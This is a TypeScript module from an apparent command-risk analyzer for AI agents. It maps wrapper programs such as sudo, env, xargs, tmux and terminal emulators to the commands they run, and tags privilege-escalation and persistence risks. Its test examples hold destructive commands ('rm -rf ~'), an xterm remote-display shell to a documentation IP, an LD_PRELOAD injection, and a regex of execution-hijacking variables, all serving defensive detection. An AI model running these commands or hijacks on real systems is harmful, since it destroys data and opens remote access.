/**
 * Wrappers: programs that run another command, resolved to that command (AARM meta-tool
 * resolution): privilege tools, schedulers and limiters, namespaces, terminals, tracers, and the
 * small launchers that hand out a shell. Researched from their man pages.
 */
import type { Field } from '../expand.js';
import { definePrograms, type Call, type ProgramSpec } from '../model.js';

/** A wrapper whose operands, after its own options, are the command it runs. */
function wrapper(
  names: string[],
  summary: string,
  options: NonNullable<ProgramSpec['options']>,
  example: string,
  extra: Partial<ProgramSpec> = {},
): ProgramSpec {
  return {
    names,
    summary,
    options,
    optionsFirst: true,
    operands: ['argv'],
    examples: [{ cmd: `${example} rm -rf /tmp/x`, runs: ['rm'], deletes: ['/tmp/x'] }],
    ...extra,
  };
}

/** `watch`, `su -c`, `ssh host cmd`: arguments joined into one shell command string. */
function joined(call: Call, words = call.operands, via = call.program) {
  if (words.length === 0) return;
  if (words.some((w) => !w.known)) {
    call.ctx.unknown(`\`${call.program}\` runs a command string that is only known when the command runs`);
    return;
  }
  call.ctx.runScript(words.map((w) => w.text).join(' '), via);
}

export default definePrograms([
  {
    names: ['env'],
    summary: 'run a command with a changed environment',
    optionsFirst: true,
    options: {
      '-u|--unset': 'value',
      '-C|--chdir': 'cwd',
      '-S|--split-string': { takes: 'command', mode: 'split' },
      '-i|--ignore-environment|-0|--null|-v|--debug': 'flag',
      '--block-signal|--default-signal|--ignore-signal': { takes: 'value', attached: true },
    },
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      // NAME=value words, then the command.
      const start = call.operands.findIndex((o) => !/^[A-Za-z_][A-Za-z0-9_]*=/s.test(o.text) || !o.known);
      for (const assignment of call.operands.slice(0, start < 0 ? undefined : start))
        hijack(call, assignment.text);
      if (start < 0) {
        if (!call.has('-S', '--split-string')) ctx.read('env:environment');
        return;
      }
      ctx.run(call.operands.slice(start), 'env');
    },
    examples: [
      { cmd: 'env FOO=1 rm -rf /tmp/x', runs: ['rm'] },
      { cmd: 'env', reads: ['env:environment'] },
      { cmd: "env -S 'rm -rf ~'", runs: ['rm'], deletes: ['~'] },
      { cmd: 'env LD_PRELOAD=./x.so ls', unknown: 'LD_PRELOAD' },
    ],
  },
  wrapper(
    ['sudo'],
    'run a command as another user (root)',
    {
      '-u|--user|-g|--group|-C|--close-from|-D|--chdir|-h|--host|-p|--prompt|-r|--role|-t|--type|-U|--other-user|-T|--command-timeout':
        'value',
      '-e|--edit': { mode: 'edit' },
      '-s|--shell|-i|--login': { mode: 'shell' },
      '-A|--askpass|-b|--background|-E|--preserve-env|-H|--set-home|-k|-K|-l|--list|-n|--non-interactive|-S|--stdin|-v|--validate|-P':
        'flag',
    },
    'sudo -u root',
    {
      effects: { risks: ['privilege-escalation'] },
      operands: (call) => (call.has('-e', '--edit') ? ['write...'] : ['argv']),
      custom(call) {
        if (call.operands.length === 0 && call.has('-s', '-i', '--shell', '--login'))
          call.ctx.unknown('opens a root shell that reads commands from the terminal');
      },
    },
  ),
  wrapper(['doas'], 'run a command as another user', { '-u|-C': 'value', '-s': { mode: 'shell' } }, 'doas', {
    effects: { risks: ['privilege-escalation'] },
  }),
  wrapper(
    ['pkexec', 'run0'],
    'run a command as another user (polkit, systemd)',
    { '--user|-u|--unit|--property|--description|--slice|--machine': 'value' },
    'pkexec',
    {
      effects: { risks: ['privilege-escalation'] },
    },
  ),
  {
    names: ['su', 'runuser'],
    summary: 'run a shell or a command as another user',
    options: {
      '-c|--command|--session-command': 'command',
      '-s|--shell': 'exec',
      '-g|--group|-G|--supp-group|-w|--whitelist-environment': 'value',
      '-l|--login|-m|-p|--preserve-environment|-P|--pty': 'flag',
    },
    effects: { risks: ['privilege-escalation'] },
    operands: ['value...'],
    custom(call) {
      if (!call.has('-c', '--command', '--session-command'))
        call.ctx.unknown('opens a shell as another user that reads commands from the terminal');
    },
    examples: [{ cmd: "su -c 'rm -rf /tmp/x' root", runs: ['rm'], risks: ['privilege-escalation'] }],
  },
  {
    names: ['sg', 'newgrp'],
    summary: 'run a command or a shell with another group',
    operands: ['value', 'command'],
    custom(call) {
      if (call.operands.length < 2) call.ctx.unknown('opens a shell that reads commands from the terminal');
    },
    examples: [{ cmd: "sg dev 'rm -rf /tmp/x'", runs: ['rm'] }],
  },
  wrapper(
    ['timeout', 'gtimeout'],
    'run a command with a time limit',
    { '-s|--signal|-k|--kill-after': 'value', '--preserve-status|--foreground|-v|--verbose': 'flag' },
    'timeout 10',
    {
      operands: ['value', 'argv'],
    },
  ),
  wrapper(['nice'], 'run a command at another priority', { '-n|--adjustment': 'value' }, 'nice -n 5'),
  {
    // `-p PID`/`-e NAME` throttle (SIGSTOP/SIGCONT) or, with `-k`, kill a running process.
    ...wrapper(
      ['cpulimit'],
      'limit the CPU of a command or a running process',
      {
        '-l|--limit': 'value',
        '-p|--pid|-e|--exe|-P|--path': 'value',
        '-k|--kill|-r|--restore|-v|--verbose|-z|--lazy|-i|--include-children|-b|--background|-q|--quiet|-m|--monitor-forks|-f|--foreground':
          'flag',
      },
      'cpulimit -l 50 -f',
    ),
    custom(call) {
      for (const pid of call.values('-p', '--pid')) call.ctx.signal(pid.known ? `pid:${pid.text}` : '?');
      for (const name of call.values('-e', '--exe', '-P', '--path'))
        call.ctx.signal(name.known ? `name:${name.text}` : '?');
      if (call.has('-p', '--pid', '-e', '--exe', '-P', '--path')) call.ctx.risk('process-control');
    },
  },
  wrapper(
    ['ionice'],
    'run a command at another I/O priority',
    { '-c|--class|-n|--classdata|-p|--pid|-P|--pgid|-u|--uid': 'value', '-t': 'flag' },
    'ionice -c 3',
  ),
  wrapper(
    ['chrt'],
    'run a command with a real-time policy',
    { '-p|--pid': 'flag', '-T|-P|-D': 'value' },
    'chrt 10',
    { operands: ['value', 'argv'] },
  ),
  wrapper(
    ['taskset'],
    'run a command on some processors',
    { '-c|--cpu-list|-a|--all-tasks': 'flag', '-p|--pid': { mode: 'pid' } },
    'taskset 1',
    { operands: ['value', 'argv'] },
  ),
  wrapper(
    [
      'nohup',
      'setsid',
      'unbuffer',
      'dbus-run-session',
      'xvfb-run',
      'winpty',
      'chronic',
      'catchsegv',
      'linux32',
      'linux64',
      'i386',
      'x86_64',
      'proxychains',
      'proxychains4',
      'torify',
      'torsocks',
      'tsocks',
      'ssh-agent',
    ],
    'run a command detached, unbuffered, in another session or through a proxy',
    {
      '-w|--wait|-c|--ctty|-f|--fork': 'flag',
      '-a|-n|-s|-S': 'value',
    },
    'nohup',
  ),
  wrapper(
    ['rlwrap'],
    'run a command with line editing',
    {
      // optional values that may only be attached: `-a`, `-apassword:`, `-m`, `-p`, `-pRed`
      '-a|--always-readline|-m|--multi-line|-p|--prompt-colour': { takes: 'value', attached: true },
      '-b|--break-chars|-C|--command-name|-D|--history-no-dupes|-e|--extra-char-after-completion|-g|--forget-matching|-M|--multi-line-ext|-O|--only-cook|-P|--pre-given|-q|--quote-characters|-s|--histsize|-S|--substitute-prompt|-t|--set-term-name|-w|--wait-before-prompt':
        'value',
      '-f|--file': 'read',
      '-H|--history-filename|-l|--logfile': 'write',
      '-z|--filter': 'command',
      '-A|--ansi-colour-aware|-c|--complete-filenames|-h|--help|-i|--case-insensitive|-n|--no-warnings|-N|--no-children|-o|--one-shot|-r|--remember|-R|--renice|-U|--mirror-arguments|-v|--version|-W|--polling|-X|--skip-setctty':
        'flag',
    },
    'rlwrap -a -c',
    {
      examples: [
        { cmd: 'rlwrap -a -c rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'] },
        { cmd: "rlwrap -a sh -c 'rm -rf ~'", runs: ['rm'], deletes: ['~'] },
        { cmd: 'rlwrap -z "sh -c id" cat', runs: ['id'] },
      ],
    },
  ),
  wrapper(
    ['stdbuf'],
    'run a command with other stream buffering',
    { '-i|--input|-o|--output|-e|--error': 'value' },
    'stdbuf -oL',
  ),
  wrapper(['caffeinate'], 'run a command keeping the machine awake', { '-t|-w': 'value' }, 'caffeinate'),
  wrapper(
    ['time', 'gtime'],
    'time a command',
    { '-f|--format': 'value', '-o|--output': 'write', '-a|--append|-p|--portability|-v|--verbose': 'flag' },
    'time -p',
  ),
  wrapper(
    ['setarch'],
    'run a command with another architecture',
    { '-B|-F|-I|-L|-R|-S|-T|-X|-Z|-3|--verbose': 'flag' },
    'setarch x86_64',
    { operands: ['value', 'argv'] },
  ),
  wrapper(['logsave'], 'run a command, saving its output', { '-a|-s|-v': 'flag' }, 'logsave /tmp/log', {
    operands: ['write', 'argv'],
  }),
  wrapper(
    ['sshpass'],
    'run a command with a password on its terminal',
    { '-p|-f|-d|-e|-P': 'value', '-v': 'flag' },
    'sshpass -p pw',
  ),
  wrapper(
    ['flock'],
    'run a command under a file lock',
    {
      '-w|--timeout|-E|--conflict-exit-code': 'value',
      '-c|--command': 'command',
      '-s|--shared|-x|--exclusive|-n|--nonblock|-u|--unlock|-o|--close|-F|--no-fork|--verbose': 'flag',
    },
    'flock /tmp/lock',
    { operands: ['write', 'argv'] },
  ),
  wrapper(
    [
      'chpst',
      'softlimit',
      'setlock',
      'setuidgid',
      'envuidgid',
      'pgrphack',
      'envdir',
      'fghack',
      'daemonize',
      'dtach',
      'abduco',
    ],
    'run a command with limits, a lock, another user or environment (daemontools, runit)',
    {
      '-u|-U|-e|-/|-n|-m|-d|-o|-p|-f|-c|-r|-t|-a|-l|-s|-D': 'value',
      '-v|-P|-0|-1|-2|-N|-X': 'flag',
    },
    'chpst -u nobody',
    {
      operands: (call) =>
        ['setlock', 'envdir', 'setuidgid', 'envuidgid'].includes(call.program) ? ['value', 'argv'] : ['argv'],
      custom(call) {
        // envdir sets variables from files aarm cannot see (LD_PRELOAD, PATH …)
        if (call.program === 'envdir' || call.has('-e', '-/'))
          call.ctx.unknown(
            `\`${call.program}\` sets environment variables from files, which can change what the command runs`,
          );
      },
    },
  ),
  wrapper(
    ['chroot'],
    'run a command with another root folder',
    { '--userspec|--groups': 'value', '--skip-chdir': 'flag' },
    'chroot /',
    {
      effects: { risks: ['privilege-escalation'] },
      operands: ['read', 'argv'],
      custom(call) {
        if (call.operands.length < 2) call.ctx.unknown('opens a shell in the new root');
      },
    },
  ),
  wrapper(
    ['unshare'],
    'run a command in new namespaces',
    {
      '--mount-proc|--propagation|--setgroups|--map-user|--map-group|--root|--wd|-S|--setuid|-G|--setgid|--kill-child':
        { takes: 'value', attached: true },
      '-m|--mount|-u|--uts|-i|--ipc|-n|--net|-p|--pid|-U|--user|-C|--cgroup|-T|--time|-f|--fork|-r|--map-root-user|-c|--map-current-user':
        'flag',
    },
    'unshare -r',
    {
      custom(call) {
        if (call.operands.length === 0) call.ctx.unknown('opens a shell in the new namespaces');
      },
    },
  ),
  wrapper(
    ['nsenter'],
    "run a command in another process's namespaces",
    {
      '-t|--target|-S|--setuid|-G|--setgid|-w|--wd|-r|--root': 'value',
      '-a|--all|-m|--mount|-u|--uts|-i|--ipc|-n|--net|-p|--pid|-U|--user|-C|--cgroup|-F|--no-fork|--preserve-credentials':
        'flag',
    },
    'nsenter -t 1 -m',
    {
      effects: { risks: ['privilege-escalation'] },
      custom(call) {
        if (call.operands.length === 0) call.ctx.unknown("opens a shell in another process's namespaces");
      },
    },
  ),
  wrapper(['capsh'], 'run a shell with changed capabilities', {}, 'capsh --', {
    effects: { risks: ['privilege-escalation'] },
    operands: ['value...'],
    custom(call) {
      const dashes = call.args.findIndex((a) => a.text === '--');
      if (dashes >= 0)
        call.ctx.run([{ ...call.args[dashes]!, text: 'bash' }, ...call.args.slice(dashes + 1)], 'capsh');
      else call.ctx.unknown('changes the capabilities of a shell');
    },
    examples: [{ cmd: "capsh -- -c 'rm -rf /tmp/x'", runs: ['rm'] }],
  }),
  wrapper(
    ['setpriv'],
    'run a command with other privileges',
    {
      '--reuid|--regid|--groups|--inh-caps|--ambient-caps|--bounding-set|--securebits|--pdeathsig|--selinux-label|--apparmor-profile|--reset-env|--ruid|--euid|--rgid|--egid':
        { takes: 'value', attached: true },
    },
    'setpriv --reuid=1000',
    { effects: { risks: ['privilege-escalation'] } },
  ),
  wrapper(
    ['systemd-run'],
    'run a command as a systemd unit',
    {
      '-u|--unit|-p|--property|--description|--slice|-E|--setenv|--working-directory|-M|--machine|-H|--host|--on-calendar|--on-active|--on-boot|--on-startup|--on-unit-active|--on-unit-inactive|--timer-property|--path-property|--socket-property|--service-type|--uid|--gid|--nice':
        'value',
      '--user|--system|--scope|-t|--pty|-P|--pipe|-G|--collect|-q|--quiet|--wait|-S|--shell|-d|--same-dir|-r|--remain-after-exit|--no-block|--no-ask-password':
        'flag',
    },
    'systemd-run --user',
    {
      custom(call) {
        if (call.has('--on-calendar', '--on-active', '--on-boot', '--on-startup', '--on-unit-active'))
          call.ctx.risk('persistence');
        if (!call.has('--user')) call.ctx.risk('privilege-escalation');
      },
    },
  ),
  wrapper(
    ['start-stop-daemon'],
    'start or stop a system daemon',
    {
      '-x|--exec|-a|--startas': 'exec',
      '-n|--name|-p|--pidfile|-u|--user|-c|--chuid|-r|--chroot|-d|--chdir|-s|--signal|-R|--retry|-N|--nicelevel|-k|--umask|-g|--group|-P|--procsched|-I|--iosched|--output|--notify-await|--notify-timeout':
        'value',
      '-S|--start|-K|--stop|-T|--status|-b|--background|-m|--make-pidfile|-o|--oknodo|-q|--quiet|-t|--test|-v|--verbose|-C|--no-close|-O':
        'flag',
    },
    'start-stop-daemon -S -x /bin/true --',
    {
      optionsFirst: false,
      operands: ['argv'],
      custom(call) {
        if (call.has('-K', '--stop')) call.ctx.risk('process-control');
      },
    },
  ),
  {
    names: ['run-parts'],
    summary: 'run every program in a folder',
    options: {
      '--regex|-u|--umask|-a|--arg': 'value',
      '--test|--list': 'flag',
      '-v|--verbose|--report|--reverse|--exit-on-error|--new-session|--lsbsysinit': 'flag',
    },
    operands: ['read'],
    custom(call) {
      if (!call.has('--test', '--list')) call.ctx.unknown('runs every program in a folder');
    },
    examples: [{ cmd: 'run-parts --new-session --regex "^sh$" /bin', unknown: true }],
  },
  {
    names: ['watch'],
    summary: 'run a command again and again',
    optionsFirst: true,
    options: {
      '-n|--interval|-d|--differences': { takes: 'value', attached: false },
      '-x|--exec': { mode: 'exec' },
      '-g|--chgexit|-e|--errexit|-b|--beep|-t|--no-title|-p|--precise|-c|--color|-w|--no-wrap': 'flag',
    },
    operands: (call) => (call.has('-x', '--exec') ? ['argv'] : ['value...']),
    custom(call) {
      // Without -x, watch hands its arguments to `sh -c` as one string.
      if (!call.has('-x', '--exec')) joined(call);
    },
    examples: [
      { cmd: 'watch -n 5 make test', runs: ['make'] },
      { cmd: 'watch -x rm -rf /tmp/x', runs: ['rm'] },
    ],
  },
  {
    names: ['xargs'],
    summary: 'run a command with arguments read from standard input',
    optionsFirst: true,
    options: {
      '-I|-n|--max-args|-P|--max-procs|-d|--delimiter|-E|--max-lines|-s|--max-chars|--process-slot-var':
        'value',
      // the old forms take their value attached, or none: `-i` is `-I {}`, `-l` is `-L 1`
      '-i|--replace|-e|--eof|-l': { takes: 'value', attached: true },
      '-a|--arg-file': 'read',
      '-0|--null|-r|--no-run-if-empty|-t|--verbose|-p|--interactive|-x|--exit|-o|--open-tty': 'flag',
    },
    operands: ['value...'],
    custom: xargs,
    examples: [
      { cmd: 'xargs -0 -n1 rm -f', unknown: 'only known when the command runs', runs: ['rm'] },
      { cmd: 'xargs wc -l', unknown: false },
      { cmd: 'echo a | xargs -i rm -rf {}', runs: ['rm'], deletes: ['a'] },
    ],
  },
  {
    names: ['parallel', 'sem'],
    summary: 'run commands in parallel (GNU parallel)',
    optionsFirst: true,
    options: {
      '-j|--jobs|-P|--max-procs|-n|--max-args|-N|--delay|--timeout|--joblog|--results|--tag|--tagstring|--colsep|-d|--delimiter|-I|--workdir|--tmpdir':
        'value',
      '-a|--arg-file': 'read',
      '-S|--sshlogin|--sshloginfile|--slf': { takes: 'host', mode: 'remote' },
      '--pipe|--pipepart|-k|--keep-order|-q|--quote|--bar|--progress|--eta|--dry-run|-v|--verbose|--halt|-0|--null|--shuf|--group|--ungroup|--line-buffer|--will-cite':
        'flag',
    },
    operands: ['value...'],
    custom(call) {
      const sep = call.operands.findIndex((o) => /^:::+$/.test(o.text));
      const command = sep < 0 ? call.operands : call.operands.slice(0, sep);
      const inputs = sep < 0 ? [] : call.operands.slice(sep + 1).filter((o) => !/^:::+$/.test(o.text));
      if (command.length === 0) {
        call.ctx.unknown('`parallel` runs commands read from standard input');
        return;
      }
      // Each input replaces {} or is appended; the command is a shell string.
      const value = inputs.length > 0 && inputs.every((i) => i.known) ? inputs.map((i) => i.text) : undefined;
      const text = command.map((c) => c.text).join(' ');
      if (command.some((c) => !c.known) || value === undefined) {
        if (value === undefined && inputs.length === 0)
          call.ctx.unknown('`parallel` gives its command arguments only known when the command runs');
        call.ctx.runScript(text.replace(/\{[^}]*\}/g, '"$X"'), 'parallel');
        return;
      }
      for (const v of value)
        call.ctx.runScript(
          /\{[^}]*\}/.test(text) ? text.replace(/\{[^}]*\}/g, v) : `${text} ${v}`,
          'parallel',
        );
    },
    examples: [{ cmd: "parallel 'rm -rf {}' ::: /tmp/a /tmp/b", deletes: ['/tmp/a', '/tmp/b'] }],
  },
  {
    names: ['script'],
    summary: 'record a terminal session; runs a command with -c',
    options: {
      '-c|--command': 'command',
      '-E|--echo|-t|--timing|-T|--log-timing|-I|--log-in|-O|--log-out|-B|--log-io|-m|--logging-format': {
        takes: 'value',
        attached: true,
      },
      '-a|--append|-e|--return|-f|--flush|-q|--quiet|--force': 'flag',
    },
    operands: ['write'],
    custom(call) {
      if (!call.has('-c', '--command'))
        call.ctx.unknown('opens a shell that reads commands from the terminal');
    },
    examples: [
      { cmd: "script -q -c 'rm -rf /tmp/x' /dev/null", runs: ['rm'] },
      { cmd: 'script /dev/null', unknown: true },
    ],
  },
  {
    names: ['tmux'],
    summary: 'terminal multiplexer; new sessions and windows run commands',
    options: { '-L|-S|-f|-T': 'value', '-c': 'command', '-C|-CC|-D|-l|-N|-u|-v|-2': 'flag' },
    operands: ['value...'],
    custom(call) {
      const words = call.operands.map((o) => o.text);
      const sub = words[0] ?? 'new-session';
      // `#(cmd)` in a format runs cmd; buffers and panes go to and come from files
      if (words.some((w) => w.includes('#('))) call.ctx.unknown('`tmux` runs the `#(…)` command of a format');
      for (let i = 0; i < call.operands.length; i++) {
        const w = words[i]!;
        if (/^(save-buffer|saveb)$/.test(w)) {
          const f = call.operands.slice(i + 1).find((o) => !o.text.startsWith('-'));
          if (f) call.ctx.apply('write', f);
        }
        if (/^(load-buffer|loadb)$/.test(w)) {
          const f = call.operands.slice(i + 1).find((o) => !o.text.startsWith('-'));
          if (f) call.ctx.apply('read', f);
        }
        if (/^(pipe-pane|pipep)$/.test(w))
          call.ctx.unknown('`tmux pipe-pane` runs a command on what a pane shows');
      }
      const creates =
        /^(new-session|new|new-window|neww|split-window|splitw|respawn-pane|respawnp|respawn-window|respawnw|run-shell|run|if-shell|if|send-keys|send|pipe-pane|pipep|display-popup|popup|source-file|source)$/.test(
          sub,
        );
      // `set -g default-command 'cmd'`: every new window runs it, later
      if (
        /^(set-option|set|set-window-option|setw|set-hook|bind-key|bind)$/.test(sub) &&
        words.some(
          (w) =>
            /^(default-command|default-shell|command-alias|pane-\w+-command|after-\w+|session-created|client-attached|run-shell|run|if-shell)$/.test(
              w,
            ) ||
            sub === 'bind-key' ||
            sub === 'bind' ||
            sub === 'set-hook',
        )
      ) {
        call.ctx.risk('persistence');
        return call.ctx.unknown(`\`tmux ${sub}\` makes tmux run a command later`);
      }
      if (
        /^(kill-server|kill-session)$/.test(sub) &&
        (sub === 'kill-server' || call.operands.some((o) => o.text === '-a'))
      ) {
        // every session of the server (or all but one): the human's terminals too
        call.ctx.signal('name:tmux: server');
        return call.ctx.risk('process-control');
      }
      if (!creates && words.length > 0) return;
      if (/^(send-keys|send)$/.test(sub))
        return call.ctx.unknown('types keys into a terminal that runs them');
      if (/^(source-file|source)$/.test(sub)) return call.ctx.unknown('runs tmux commands from a file');
      // The command is the last operand that is not an option or option value.
      const rest = call.operands.slice(1);
      const values = new Set([
        '-t',
        '-s',
        '-n',
        '-c',
        '-x',
        '-y',
        '-e',
        '-F',
        '-l',
        '-p',
        '-w',
        '-h',
        '-b',
        '-T',
        '-E',
        '-o',
      ]);
      const command = rest.filter((o, i) => !o.text.startsWith('-') && !values.has(rest[i - 1]?.text ?? ''));
      if (command.length === 0) call.ctx.unknown('opens a shell in a terminal the agent can type into');
      else joined(call, command, 'tmux');
    },
    examples: [
      { cmd: "tmux new-session -d 'rm -rf /tmp/x'", runs: ['rm'] },
      { cmd: 'tmux ls', only: true },
      { cmd: 'tmux kill-server', risks: ['process-control'] },
      { cmd: 'tmux kill-session -t build', only: true },
    ],
  },
  {
    names: [
      'xterm',
      'uxterm',
      'urxvt',
      'rxvt',
      'rxvt-unicode',
      'st',
      'konsole',
      'gnome-terminal',
      'xfce4-terminal',
      'mate-terminal',
      'lxterminal',
      'terminator',
      'tilix',
      'alacritty',
      'kitty',
      'foot',
      'wezterm',
      'qterminal',
      'sakura',
      'terminology',
      'xdg-terminal-exec',
      'x-terminal-emulator',
    ],
    summary: 'terminal emulators: a window with a shell, or with the command after `-e`, `-x`, `--`',
    rewrite: (args: Field[]) => [{ ...args[0]!, text: '--' }, ...args],
    operands: ['value...'],
    custom(call) {
      const { ctx } = call;
      const args = call.operands;
      for (let i = 0; i < args.length; i++) {
        const a = args[i]!;
        if (!a.known) {
          ctx.unknown(`\`${call.program}\` gets \`${a.text}\`, a value only known when the command runs`);
          continue;
        }
        // `-display HOST:N`: the terminal (a shell) opens on another machine's screen.
        if (/^--?(display|d)$/.test(a.text) || a.text.startsWith('--display=')) {
          const display = a.text.includes('=')
            ? a.text.slice(a.text.indexOf('=') + 1)
            : (args[++i]?.text ?? '');
          const host = display.replace(/:[\d.]+$/, '');
          if (host !== '' && !/^(unix|localhost|127\.\d+\.\d+\.\d+|::1)$/.test(host)) {
            ctx.host(host);
            ctx.sends();
            ctx.unknown(`\`${call.program}\` shows a shell on the screen of \`${host}\` (a remote shell)`);
          }
          continue;
        }
        const rest = args.slice(i + 1);
        if (
          /^(-e|--command|-x|--execute|--)$/.test(a.text) ||
          (a.text === 'start' && call.program === 'wezterm')
        ) {
          if (rest.length === 0) return;
          // `-e 'cmd args'` (one word with spaces: gnome-terminal, terminator) or `-e cmd args` (xterm)
          if (rest.length === 1 && /\s/.test(rest[0]!.text)) ctx.runScript(rest[0]!.text, call.program);
          else ctx.run(rest[0]!.text === '--' ? rest.slice(1) : rest, call.program);
          return;
        }
        if (a.text.startsWith('-')) continue;
        // kitty, foot, alacritty: a bare program name starts the command; other words are option values
        if (['kitty', 'foot'].includes(call.program) && !args[i - 1]?.text.startsWith('-'))
          return ctx.run(args.slice(i), call.program);
      }
    },
    examples: [
      { cmd: 'xterm -e rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'] },
      { cmd: "gnome-terminal -- bash -c 'rm -rf /tmp/x'", runs: ['rm'] },
      { cmd: "xfce4-terminal -e 'rm -rf /tmp/x'", runs: ['rm'] },
      { cmd: 'xterm -display 203.0.113.7:1', risks: ['exfiltration'], unknown: 'remote shell' },
      { cmd: 'xterm -fa Monospace -fs 12', only: true },
    ],
  },
  {
    names: ['screen'],
    summary: 'terminal multiplexer; runs a command in a new window',
    optionsFirst: true,
    options: {
      '-S|-c|-e|-h|-p|-s|-t|-T|-L|-Logfile': 'value',
      '-X': 'value',
      '-ls|-list|-wipe|-r|-R|-x': 'flag',
      '-d|-m|-dm|-dmS|-D|-q|-U|-a|-A|-O|-l|-ln|-i|-f|-fn|-fa|-v': 'flag',
    },
    operands: ['value...'],
    custom(call) {
      if (call.has('-ls', '-list', '-wipe', '-r', '-R', '-x')) return;
      if (call.has('-X')) return call.ctx.unknown('sends commands to a running screen session');
      if (call.operands.length === 0) call.ctx.unknown('opens a shell in a terminal');
      else call.ctx.run(call.operands, 'screen');
    },
    examples: [{ cmd: 'screen -dm rm -rf /tmp/x', runs: ['rm'] }],
  },
  {
    names: ['expect'],
    summary: 'script interactive programs (Tcl)',
    options: { '-c': 'code:tcl', '-f': 'script', '-d|-D|-i|-n|-N|-b|-v': 'flag' },
    effects: { stdin: 'code:tcl' },
    operands: ['script', 'value...'],
    examples: [{ cmd: "expect -c 'spawn rm -rf /tmp/x; interact'", executes: ['inline:tcl'] }],
  },
  {
    names: ['aarm'],
    summary:
      'aarm itself: `exec`, `shell` and `mcp-proxy` run a command judged in the outer workspace and session',
    operands: ['value...'],
    subcommands: {
      // The inner command is judged here, in this action's workspace and session: a nested
      // `--workspace /` or `--session fresh` changes nothing about what this judgement allows.
      exec: {
        options: { '--workspace|--session|--agent': 'value' },
        optionsFirst: true,
        operands: ['argv'],
      },
      'mcp-proxy': {
        options: { '--workspace|--name|--session': 'value', '--accept-changes': 'flag' },
        optionsFirst: true,
        operands: ['argv'],
      },
      shell: {
        options: { '-c': 'command', '--workspace|--session|--agent': 'value' },
        custom(call) {
          if (!call.has('-c')) call.ctx.runsStdin('commands');
        },
      },
      'check|status|policy|help|--help|-h|--version': { readonly: true, operands: ['read...'] },
      '*': { operands: ['value...'] },
    },
    examples: [
      { cmd: 'aarm exec --workspace / --session fresh -- rm -rf /tmp/x', runs: ['rm'], deletes: ['/tmp/x'] },
      { cmd: "aarm shell -c 'rm -rf /tmp/x'", runs: ['rm'] },
      { cmd: 'aarm status', only: true },
    ],
  },
  {
    names: ['aarm-shell'],
    summary: "aarm's SHELL for agents: judges, then runs its `-c` command",
    options: { '-c': 'command' },
    operands: ['value...'],
    custom(call) {
      if (!call.has('-c')) call.ctx.runsStdin('commands');
    },
    examples: [{ cmd: "aarm-shell -c 'rm -rf /tmp/x'", runs: ['rm'] }],
  },
  {
    names: ['busybox', 'toybox'],
    summary: 'many small programs in one; the first operand names the program',
    operands: ['argv'],
    examples: [{ cmd: 'busybox rm -rf /tmp/x', runs: ['rm'] }],
  },
]);

/** Variables that change which programs or code run. */
const HIJACKING =
  /^(LD_\w+|DYLD_\w+|BASH_ENV|ENV|NODE_OPTIONS|PYTHONPATH|PYTHONSTARTUP|PERL5OPT|PERL5LIB|RUBYOPT|GIT_\w+|PATH|PAGER|EDITOR|VISUAL|LESSOPEN|PROMPT_COMMAND|SHELLOPTS|TAR_OPTIONS|JAVA_TOOL_OPTIONS)=/;

function hijack(call: Call, assignment: string) {
  if (HIJACKING.test(assignment) && !/^PATH=\$\{?PATH\}?(:|$)/.test(assignment))
    call.ctx.unknown(`\`${assignment.split('=')[0]}=\` changes which programs or code later commands run`);
}

/** `xargs CMD`: lines of standard input become extra arguments, only known at run time. */
function xargs(call: Call) {
  const { ctx } = call;
  const command =
    call.operands.length > 0
      ? call.operands
      : [{ text: 'echo', known: true, glob: false, many: false, network: false, decoded: false }];
  const replace =
    call.values('-I', '-i', '--replace')[0]?.text || (call.has('-i', '--replace') ? '{}' : undefined);
  // What feeds standard input, when known: `git ls-files | xargs wc -l` reads files of the workspace.
  const stdin = ctx.stdin;
  const input =
    stdin?.kind === 'paths'
      ? [{ text: stdin.pattern, known: true, glob: true, many: false, network: false, decoded: false }]
      : stdin?.kind === 'text' && !/["'\\]/.test(stdin.text)
        ? stdin.text
            .split(call.has('-0', '--null') ? '\0' : /\s+/)
            .filter((t) => t !== '')
            .map((text) => ({ text, known: true, glob: false, many: false, network: false, decoded: false }))
        : [
            {
              text: '$(xargs input)',
              known: false,
              glob: false,
              many: true,
              network: false,
              decoded: stdin?.kind === 'unknown' && stdin.decoded,
            },
          ];
  if (replace !== undefined) {
    const one = input.length === 1 ? input[0]! : undefined;
    ctx.run(
      command.map((c) =>
        c.text.includes(replace)
          ? one?.known
            ? { ...c, text: c.text.split(replace).join(one.text), glob: one.glob }
            : { ...c, text: c.text.split(replace).join('$(xargs input)'), known: false }
          : c,
      ),
      'xargs',
    );
    return;
  }
  ctx.run([...command, ...input], 'xargs');
}
